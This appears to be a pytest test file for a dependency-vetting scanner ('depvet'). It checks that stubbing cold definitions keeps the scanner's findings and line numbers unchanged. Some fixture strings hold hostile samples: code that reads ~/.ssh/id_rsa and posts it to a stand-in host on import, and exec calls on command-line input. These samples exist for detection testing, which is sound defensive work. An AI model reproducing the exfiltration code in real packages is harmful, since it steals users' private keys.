"""Cold definitions are stubbed without changing what the kept lines mean."""

from __future__ import annotations

import ast
import random
import sysconfig
from pathlib import Path
from typing import Any

import pytest

from depvet.analysis import engine
from depvet.analysis.trim import MIN_CHARS, Trimmed, trim_cold_definitions
from depvet.model import RunContext, Verdict
from tests.conftest import ScanFiles

_PADDING = "".join(
    f"def filler_{i}(a, b):\n    total = a + b\n    return total * {i}\n\n\n" for i in range(400)
)


def _stubbed_names(monkeypatch: pytest.MonkeyPatch) -> set[str]:
    """The names of the definitions the engine's scans stub from now on."""
    stubbed: set[str] = set()

    def spy(*args: Any) -> Trimmed | None:
        trimmed = trim_cold_definitions(*args)
        stubbed.update(name for name, _ in (trimmed.stubs.values() if trimmed else ()))
        return trimmed

    monkeypatch.setattr(engine, "trim_cold_definitions", spy)
    return stubbed


Where = list[tuple[str, int | None, RunContext]]


def _trimmed_and_whole(
    scan_files: ScanFiles, monkeypatch: pytest.MonkeyPatch, files: dict[str, str]
) -> tuple[set[str], Where, Where, Verdict]:
    """Scan ``files`` as a wheel with trimming, then without: the names stubbed, where each scan
    found what (rule, line, run context), and the trimmed scan's verdict."""
    stubbed = _stubbed_names(monkeypatch)
    trimmed = scan_files(files, artifact="wheel")
    monkeypatch.setattr(engine, "trim_cold_definitions", lambda *_: None)
    whole = scan_files(files, artifact="wheel")
    return (
        stubbed,
        [(f.rule_id, f.line, f.context) for f in trimmed.findings],
        [(f.rule_id, f.line, f.context) for f in whole.findings],
        trimmed.verdict,
    )


def _calls_on(tree: ast.AST, lines: set[int]) -> set[tuple[int, int, str]]:
    return {
        (node.lineno, node.col_offset, ast.unparse(node.func))
        for node in ast.walk(tree)
        if isinstance(node, ast.Call) and node.lineno in lines
    }


def test_cold_functions_become_stubs_and_line_numbers_stay() -> None:
    text = "import os\n\n" + _PADDING + "def hot():\n    os.system('id')\n    return 1\n"
    hot_line = text.split("\n").index("    os.system('id')") + 1
    trimmed = trim_cold_definitions(text, frozenset({hot_line}))
    assert trimmed is not None
    kept = trimmed.text.split("\n")
    assert len(kept) == len(text.split("\n"))
    assert kept[hot_line - 1] == "    os.system('id')"
    assert kept[2] == "def filler_0(): pass"
    assert trimmed.stubs[3] == ("filler_0", 7)  # its blank lines go with it
    assert len(trimmed.text) < len(text) / 2
    assert trimmed.verified_by(ast.parse(trimmed.text))


def test_methods_of_a_class_are_stubbed_one_by_one() -> None:
    methods = "".join(f"    def m{i}(self):\n        x = {i}\n        return x\n\n" for i in range(600))
    text = f"class Big:\n{methods}    def hot(self):\n        return marshal.loads(b)\n"
    hot_line = text.split("\n").index("        return marshal.loads(b)") + 1
    trimmed = trim_cold_definitions(text, frozenset({hot_line}))
    assert trimmed is not None
    assert trimmed.text.split("\n")[1] == "    def m0(): pass"
    tree = ast.parse(trimmed.text)
    assert trimmed.verified_by(tree)
    assert _calls_on(tree, {hot_line}) == {(hot_line, 15, "marshal.loads")}


_PROSE = (
    # The only hot line of each is a weak token: in its docstring (cold), or where it could run.
    ('def get(url):\n    """Fetch it with urllib3."""\n    a = 1\n    return a\n', True),
    (
        "def get(\n    url: str = ':',\n) -> dict[str, int]:  # (:\n    # note\n    r'''Return\n"
        "    a urllib3 response.'''  # ok\n    return {}\n",
        True,
    ),
    ("def get(url):\n    pool = urllib3.PoolManager()\n    a = 1\n    return pool\n", False),
    ("def get(url):\n    f'''{urllib3.request(url)}'''\n    a = 1\n    return a\n", False),
    ("def get(url):\n    '''urllib3 {}'''.format(urllib3.request(url))\n    a = 1\n    return a\n", False),
    ("def get(url):\n    a = 1\n    '''Not the docstring: urllib3.'''\n    return a\n", False),
)


@pytest.mark.parametrize(("definition", "cold"), _PROSE)
def test_a_weak_token_only_in_a_docstring_leaves_a_definition_cold(definition: str, cold: bool) -> None:
    text = _PADDING + definition
    first = text.count("\n", 0, len(_PADDING)) + 1
    line = first + next(i for i, t in enumerate(definition.split("\n")) if "urllib3" in t)
    trimmed = trim_cold_definitions(text, frozenset({line}), weak_lines=frozenset({line}))
    assert trimmed is not None
    assert (first in trimmed.stubs) is cold
    assert trimmed.verified_by(ast.parse(trimmed.text))
    # The same line with something else on it (not only weak tokens) keeps the definition.
    kept = trim_cold_definitions(text, frozenset({line}))
    assert kept is not None
    assert first not in kept.stubs


def test_a_def_inside_a_string_is_not_a_boundary() -> None:
    # If the column-0 lines inside the string were read as statements, blanking helper() from
    # its def would cut the string's opening quote and the call would read as string text.
    text = (
        "def helper():\n"
        "    a = 1\n"
        "    b = 2\n"
        "    c = 3\n"
        '    x = """\n'
        "def inner():\n"
        "    pass\n"
        '""" ; import os; os.system("id")\n'
        "    return x\n\n" + _PADDING + 'def later():\n    s = """a closing quote"""\n    return s\n'
    )
    trimmed = trim_cold_definitions(text, frozenset({8}))
    assert trimmed is not None
    tree = ast.parse(trimmed.text)
    assert trimmed.verified_by(tree)
    assert (8, 17, "os.system") in _calls_on(tree, {8})
    assert 1 not in trimmed.stubs


def test_a_stub_that_did_not_come_back_is_refused() -> None:
    trimmed = Trimmed("x = '''\ndef f(): pass\n'''\n", {2: ("f", 2)})
    assert not trimmed.verified_by(ast.parse(trimmed.text))


@pytest.mark.parametrize("text", ["x = 1\n" * 10, "a = 1\r\n" * 4000, "def f():\n    return 1\n" * 10])
def test_small_or_unusual_files_are_parsed_whole(text: str) -> None:
    assert len(text) < MIN_CHARS or "\r" in text
    assert trim_cold_definitions(text, frozenset()) is None


def _stdlib_modules() -> list[Path]:
    root = Path(sysconfig.get_paths()["stdlib"])
    files = sorted(p for p in root.glob("*.py") if p.stat().st_size > MIN_CHARS)
    return random.Random(7).sample(files, 25)


@pytest.mark.parametrize("path", _stdlib_modules(), ids=lambda p: p.name)
def test_kept_lines_mean_what_they_meant_in_real_modules(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    full = ast.parse(text)
    count = text.count("\n") + 1
    rng = random.Random(path.name)
    hot = frozenset(rng.sample(range(1, count + 1), max(1, count // 200)))
    trimmed = trim_cold_definitions(text, hot)
    if trimmed is None:
        return
    tree = ast.parse(trimmed.text)
    assert trimmed.verified_by(tree)
    assert _calls_on(tree, set(hot)) == _calls_on(full, set(hot))
    # Module-level statements all survive: imports and bindings still resolve names.
    assert [type(n) for n in tree.body] == [type(n) for n in full.body]


_CLIENT = (
    "import os\nimport requests\n\n"
    + _PADDING
    + "def start():\n    config = load()\n    config.update(extra=1)\n    _send(config)\n\n\n"
    + "def _send(config):\n"
    + "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    + "    requests.post('https://collector.example/k', data=key)\n\n\n"
    + "def load():\n    return {}\n\n\nstart()\n"
)


_MODELS = (
    "import os\nimport requests\n\n"
    + "".join(
        f"class Model{i}(Base):\n    name: str = ''\n    size: int = {i}\n\n    def total(self):\n"
        f"        return self.size * 2\n\n\n"
        for i in range(300)
    )
    + "class Courier:\n    def __init__(self):\n        self.config = dict(retries=3)\n"
    + "        _send(self.config)\n\n\n"
    + "def _send(config):\n"
    + "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    + "    requests.post('https://collector.example/k', data=key)\n\n\n"
    + "Courier()\n"
)


def test_cold_classes_are_stubs_and_their_constructor_still_carries_run_context(
    scan_files: ScanFiles, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = {"courier/__init__.py": "", "courier/models.py": _MODELS}
    stubbed, trimmed, whole, verdict = _trimmed_and_whole(scan_files, monkeypatch, files)
    assert {"Model0", "Model299", "Courier"} <= stubbed  # no token on any of their lines
    # Courier() at import time runs its __init__, which sends the key: still an import-time send.
    assert verdict is Verdict.MALICIOUS
    assert trimmed == whole
    assert any(context is RunContext.IMPORT for _, _, context in trimmed)


def test_a_trimmed_scan_finds_what_a_whole_scan_finds(
    scan_files: ScanFiles, monkeypatch: pytest.MonkeyPatch
) -> None:
    # start() is cold and stubbed; the calls it makes still carry "runs on import" to _send().
    files = {"courier/__init__.py": "", "courier/client.py": _CLIENT}
    stubbed, trimmed, whole, verdict = _trimmed_and_whole(scan_files, monkeypatch, files)
    assert "start" in stubbed
    assert verdict is Verdict.MALICIOUS
    assert trimmed == whole
    assert any(context is RunContext.IMPORT for _, _, context in trimmed)



def _queries(payload: str) -> str:
    return (
        "import sys\nimport builtins as runtime\n\n\n"
        + "".join(
            f"def execute_query_{i}(retrieval):\n    plan = retrieval.compile_plan()\n"
            f"    executor = plan.executor\n    return executor.execute()\n\n\n"
            for i in range(200)
        )
        + f"def boot(code):\n    {payload}\n    return None\n\n\nboot(sys.argv[-1])\n"
    )


@pytest.mark.parametrize("payload", ["exec(code)", "runtime.exec(code)", 'getattr(runtime, "exec")(code)'])
def test_exec_inside_a_longer_name_leaves_a_definition_cold(
    scan_files: ScanFiles, monkeypatch: pytest.MonkeyPatch, payload: str
) -> None:
    stubbed = _stubbed_names(monkeypatch)
    source = _queries(payload)
    result = scan_files({"queries/__init__.py": "", "queries/run.py": source}, artifact="wheel")
    # "execute", "retrieval" and "compile_plan" run nothing: those functions are stubs ...
    assert {f"execute_query_{i}" for i in range(200)} <= stubbed
    # ... while exec, by its name or through an alias of builtins, is walked and reported.
    assert "boot" not in stubbed
    line = source.splitlines().index(f"    {payload}") + 1
    assert [(f.rule_id, f.line, f.context) for f in result.findings] == [("DV202", line, RunContext.IMPORT)]


def test_the_fact_walker_skips_a_body_hot_only_by_prose_in_its_docstring() -> None:
    from depvet.analysis.pyfacts import extract_facts

    source = (
        "def prose():\n    '''Talks to the server with urllib3.'''\n    return fetch_all()\n\n\n"
        "def code():\n    pool = urllib3.PoolManager()\n    return pool.request('GET', URL)\n"
    )
    weak = frozenset({2, 7})  # the lines whose only token is "urllib3"
    facts = extract_facts(ast.parse(source), RunContext.IMPORT, hot_lines=weak, source=source, weak_lines=weak)
    called = {call.node.lineno for call in facts.calls}
    assert 3 not in called  # prose() is not walked ...
    assert {7, 8} <= called  # ... code() is, with the same token in a statement
    everything = extract_facts(ast.parse(source), RunContext.IMPORT, hot_lines=weak, source=source)
    assert 3 in {call.node.lineno for call in everything.calls}


_PROPERTIES = (
    "from pydantic import Field\n\ntemplate = 'def get%s(self):\\n    return self._obj.%s\\n'\n\n\n"
    + _PADDING
    + "def make_property(name):\n    namespace = {}\n    exec(template % (name, name), namespace)\n"
    + "    return namespace['get' + name]\n\n\n"
    + "class Synchronized:\n    value = make_property('value')\n\n    def get(self):\n"
    + "        return self._obj\n\n\n"
    + "class Plain:\n    size: int = Field(default=3)\n\n    def get(\n        self,\n    ) -> int:\n"
    + "        return self.size\n\n\n"
    + "class Defaults:\n    size = 3\n\n    def get(self, getter=make_property('size')):\n"
    + "        return getter(self)\n"
)


def test_a_class_whose_body_calls_something_is_not_a_stub(
    scan_files: ScanFiles, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Creating Synchronized runs make_property, and so exec, on import: its body must be read.
    files = {"shared/__init__.py": "", "shared/ctypes.py": _PROPERTIES}
    stubbed, trimmed, whole, _ = _trimmed_and_whole(scan_files, monkeypatch, files)
    assert "Plain" in stubbed  # it calls only what it imports
    assert "Synchronized" not in stubbed
    assert "Defaults" not in stubbed  # a method's default value is computed on import
    line = _PROPERTIES.splitlines().index("    exec(template % (name, name), namespace)") + 1
    assert ("DV202", line, RunContext.IMPORT) in trimmed
    assert trimmed == whole
